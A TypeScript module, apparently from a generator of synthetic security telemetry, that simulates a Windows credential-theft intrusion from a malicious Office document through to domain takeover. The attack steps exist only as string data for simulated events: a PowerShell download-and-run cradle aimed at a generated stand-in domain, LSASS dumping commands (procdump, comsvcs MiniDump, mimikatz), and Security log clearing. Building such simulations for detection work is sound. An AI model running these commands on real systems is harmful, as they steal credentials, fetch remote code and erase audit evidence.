import {
  failedLogon,
  logon,
  processAccessed,
  sysmonConnection,
} from "../events/windows-entries.ts";
import { windowsEvent } from "../events/windows-event.ts";
import type { WindowsAccount } from "../events/windows-event.ts";
import { residentProgram, startProgram } from "../events/windows-program.ts";
import type { WindowsProgram } from "../events/windows-program.ts";
import type { Host } from "../hosts.ts";
import type { Person } from "../people.ts";
import { fileHash, inventedWord, strangeAccount, strangeDomain } from "../props.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { EXPLORER, serviceInstalled, useWindows, windowsAccount } from "../routine/windows-work.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { encodedCommand, POWERSHELL, SYSTEM32 } from "./powershell.ts";
import { castHost, castingStage, castPerson, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  /** Where the document was opened. */
  readonly first: Host;
  readonly host: Host;
  readonly domain: Host;
  readonly person: Person;
  readonly victim: WindowsAccount;
  readonly as: WindowsAccount;
  readonly document: string;
  readonly dropIp: string;
  readonly dropName: string;
  readonly encoded: string;
  readonly tool: { readonly exe: string; readonly line: string; readonly hash: string };
  readonly service: string;
  readonly helper: string;
}

/** Where tools are left, and the dump. */
const FOLDERS = [
  "C:\\Users\\Public",
  "C:\\ProgramData",
  "C:\\Windows\\Temp",
  "C:\\PerfLogs",
  "C:\\Windows\\Tasks",
];

function dumperOf({ random }: StoryOptions): Cast["tool"] {
  const folder = random.pick(FOLDERS);
  const copy = `${folder}\\${inventedWord(random)}.dmp`;
  const name = `${inventedWord(random)}.exe`;
  const [exe, line] = random.pick([
    [`${folder}\\procdump64.exe`, `procdump64.exe -accepteula -ma lsass.exe ${copy}`],
    [`${SYSTEM32}\\rundll32.exe`, `rundll32.exe comsvcs.dll, MiniDump 640 ${copy} full`],
    [`${folder}\\${name}`, `${name} "privilege::debug" "sekurlsa::logonpasswords" exit`],
    [`${folder}\\${name}`, `${name} --fork --write ${copy}`],
  ] as const);
  return { exe, line, hash: fileHash(random) };
}

function castOf(options: StoryOptions): Cast {
  const { world, random } = options;
  const host = castHost(options, [...world.hostsOf("winapp"), ...world.hostsOf("sql")]);
  const stage = castingStage(options);
  const person = castPerson(options, "windows");
  const dropName = strangeDomain(random);
  const victim = random.pick([...world.peopleOf("database"), ...world.peopleOf("developer")]);
  return {
    first: random.pick(world.hostsOf("winapp").filter((other) => other !== host)),
    host,
    domain: random.pick(world.hostsOf("domain")),
    person,
    victim: windowsAccount(stage, victim),
    as: windowsAccount(stage, person),
    document: `${random.pick(["invoice", "offer", "claim", "cv", "order", "minutes"])}_${random.int(100, 9999)}.${random.pick(["docm", "xlsm", "doc"])}`,
    dropIp: strangerAddress(random),
    dropName,
    encoded: encodedCommand(
      `IEX (New-Object Net.WebClient).DownloadString('https://${dropName}/a')`,
    ),
    tool: dumperOf(options),
    service: random.pick(["PSEXESVC", `${inventedWord(random)}svc`, "WinUpdateHelper"]),
    helper: strangeAccount(random),
  };
}

/** A document opens a door, a stolen administrator logs on elsewhere, reads credentials and reaches the domain. */
export function windowsCredentialTheft(options: StoryOptions): Story {
  const { random, start } = options;
  const cast = castOf(options);
  const { first, host, domain, victim, as, tool, helper, service } = cast;
  const comeAt = start + random.int(30, 200) * MINUTE_MS;
  const dumpAt = comeAt + random.int(14, 35) * MINUTE_MS;
  const moveAt = dumpAt + random.int(10, 50) * MINUTE_MS;
  return tell(options, {
    id: "windows-credential-theft",
    kind: "attack",
    platforms: ["windows"],
    rootCause: `${victim.user} opened ${cast.document} on ${first.name}`,
    backdrops: [
      {
        name: "owner",
        start: comeAt - 5 * HOUR_MS,
        perform: (stage) => useWindows(stage, { host, person: cast.person, programs: 30 }),
      },
    ],
    chapters: [
      {
        name: "document",
        start,
        deed: `${victim.user} opened ${cast.document} on ${first.name}, which called ${cast.dropName}`,
        facts: factsOf(["user", victim.user], ["host", first.name], ["command", cast.encoded]),
        perform: (stage) => openDocument(stage, cast),
      },
      {
        name: "logon",
        start: comeAt,
        deed: `${as.user} came from ${first.name} to ${host.name}`,
        facts: factsOf(["user", as.user], ["address", first.address], ["host", host.name]),
        perform: (stage) => comeIn(stage, cast),
      },
      {
        name: "dump",
        start: dumpAt,
        deed: `and read lsass.exe with ${tool.exe}`,
        facts: factsOf(
          ["tool", tool.exe],
          ["hash", tool.hash],
          ["object", "lsass.exe"],
          ["time", momentOf(dumpAt)],
        ),
        perform: (stage) => dump(stage, cast),
      },
      {
        name: "domain",
        start: moveAt,
        deed: `then installed ${service} on ${domain.name} and created ${helper}`,
        facts: factsOf(["host", domain.name], ["user", helper], ["object", service]),
        perform: (stage) => takeDomain(stage, cast),
      },
    ],
  });
}

function* openDocument(stage: Stage, cast: Cast): Script {
  const { first, victim: as, document, encoded, dropIp, dropName } = cast;
  const scene = atHost(stage, first);
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
  const exe = `${office}\\${document.includes("xls") ? "EXCEL.EXE" : "WINWORD.EXE"}`;
  const word = yield* startProgram(scene, {
    as,
    exe,
    commandLine: `"${exe}" /n "C:\\Users\\${as.user}\\Downloads\\${document}"`,
    parent: residentProgram(scene, EXPLORER),
    isCause: true,
  });
  wait(stage, 2000, 30_000);
  const commandLine = `powershell.exe -nop -w hidden -enc ${encoded}`;
  const shell = yield* startProgram(scene, { as, exe: POWERSHELL, commandLine, parent: word });
  wait(stage, 300, 2000);
  const remote = { ip: dropIp, port: 443, host: dropName };
  yield sysmonConnection(scene, { as, program: shell, remote });
  yield* look(scene, { as, parent: shell });
}

const LOOKS = [
  ["whoami.exe", "whoami.exe /all"],
  ["net.exe", 'net.exe group "Domain Admins" /domain'],
  ["nltest.exe", "nltest.exe /dclist:"],
  ["quser.exe", "quser.exe"],
  ["tasklist.exe", "tasklist.exe /svc"],
  ["systeminfo.exe", "systeminfo.exe"],
  ["arp.exe", "arp.exe -a"],
  ["net.exe", "net.exe view /all"],
  ["ipconfig.exe", "ipconfig.exe /displaydns"],
] as const;

function* look(
  scene: Scene,
  { as, parent }: { as: WindowsAccount; parent: WindowsProgram },
): Script {
  for (const [name, commandLine] of scene.random.sample(LOOKS, 6)) {
    wait(scene, 5000, 60_000);
    yield* startProgram(scene, { as, exe: `${SYSTEM32}\\${name}`, commandLine, parent });
  }
}

function* comeIn(stage: Stage, { host, first, as }: Cast): Script {
  const scene = atHost(stage, host);
  for (let index = 0; index < stage.random.int(10, 16); index += 1) {
    yield failedLogon(scene, as.user, first.address);
    wait(stage, 1500, 9000);
  }
  yield logon(scene, { as, srcIp: first.address, logonType: 10 });
  yield* look(scene, { as, parent: residentProgram(scene, `${SYSTEM32}\\cmd.exe`) });
}

function* dump(stage: Stage, { host, as, tool }: Cast): Script {
  const scene = atHost(stage, host);
  const parent = residentProgram(scene, `${SYSTEM32}\\cmd.exe`);
  const { exe, line: commandLine, hash } = tool;
  const program = yield* startProgram(scene, { as, exe, commandLine, parent, hash });
  const target = residentProgram(scene, `${SYSTEM32}\\lsass.exe`);
  yield processAccessed(scene, { as, program, target, access: "0x1FFFFF" });
  wait(stage, 200, 3000);
  yield processAccessed(scene, { as, program, target, access: "0x1410" });
  wait(stage, 20_000, 90_000);
  const cleaner = `${SYSTEM32}\\wevtutil.exe`;
  yield* startProgram(scene, { as, exe: cleaner, commandLine: "wevtutil.exe cl Security", parent });
  wait(stage, 100, 900);
  const summary = "The audit log was cleared.";
  yield windowsEvent(scene, { id: 1102, subtype: "Log Cleared", summary, as, exe: cleaner });
}

function* takeDomain(stage: Stage, cast: Cast): Script {
  const { domain, host, as, service, helper } = cast;
  const scene = atHost(stage, domain);
  yield logon(scene, { as, srcIp: host.address, logonType: 3 });
  yield serviceInstalled(scene, as, service);
  wait(stage, 5000, 30_000);
  const exe = `C:\\Windows\\${service}.exe`;
  const commandLine = `${service}.exe`;
  const services = residentProgram(scene, `${SYSTEM32}\\services.exe`);
  const started = yield* startProgram(scene, { as, exe, commandLine, parent: services });
  yield* look(scene, { as, parent: started });
  for (const [id, subtype, summary] of [
    [4720, "User Account Created", "A user account was created."],
    [4728, "Group Membership", "A member was added to a security-enabled global group."],
  ] as const) {
    const details = { "Account Name": helper, Group: "Domain Admins" };
    const fields = { sam_account: helper };
    const lsass = `${SYSTEM32}\\lsass.exe`;
    yield windowsEvent(scene, { id, subtype, summary, as, exe: lsass, fields, details });
    wait(stage, 1000, 20_000);
  }
}
